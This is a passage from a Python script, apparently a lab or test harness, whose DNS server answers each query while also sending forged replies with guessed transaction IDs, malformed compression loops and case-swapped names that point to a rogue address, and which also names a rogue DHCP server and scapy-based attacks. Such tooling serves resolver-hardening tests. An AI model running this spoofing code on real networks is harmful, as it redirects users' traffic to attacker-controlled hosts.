        return struct.unpack("!H", asked[:2])[0], question, struct.unpack("!H", question[-4:-2])[0]

    def right(asked):
        number, question, kind = parts(asked)
        return answer(number, question, address(KERNEL)) if kind == 1 else answer(number, question, b"", 0)

    def serve_tcp(listener):
        while True:
            stream, _ = listener.accept()
            asked = stream.recv(4_096)
            message = right(asked[2:])
            stream.sendall(struct.pack("!H", len(message)) + message)
            print("a question over TCP", flush=True)
            stream.close()

    server, stranger, tcp = listen(53), listen(5_353), listen(53, socket.SOCK_STREAM)
    tcp.listen()
    threading.Thread(target=serve_tcp, args=(tcp,), daemon=True).start()
    open(ready, "w").close()
    while True:
        asked, client = server.recvfrom(4_096)
        number, question, kind = parts(asked)
        evil = address("10.9.0.66")
        forged = [answer((number + n) % 2**16, question, evil) for n in range(1, 8)]
        # Another question, loops of compression, no message; at last the name in other letters.
        forged += [answer(number, b"\x05other" + question[question[0] + 1:], evil),
                   answer(number, b"\xc0\x0c" + question[-4:], evil),
                   answer(number, b"\xc0\x0d" + question[-4:], evil), b"\xff" * 7, b""]
        if kind == 1:
            forged.append(answer(number, question.swapcase()[:-4] + question[-4:], evil))
        stranger.sendto(answer(number, question, evil), client)
        for message in forged:
            server.sendto(message, client)
        server.sendto(right(asked), client)
        print("a question of type %d, %d forged answers" % (kind, len(forged) + 1), flush=True)


def main():
    global OURS6
    name = sys.argv[1]
    if name in ("peer", "name_server", "rogue_dhcp_server"):
        OURS6 = sys.argv[4] if len(sys.argv) > 4 else OURS6
        return globals()[name](*sys.argv[2:4])
    OURS6 = sys.argv[3] if len(sys.argv) > 3 else OURS6
    import logging
    logging.getLogger("scapy").setLevel(logging.ERROR)
    attack = globals()[name]
    attack(Wire(), sys.argv[2] if len(sys.argv) > 2 else None)


if __name__ == "__main__":
    main()
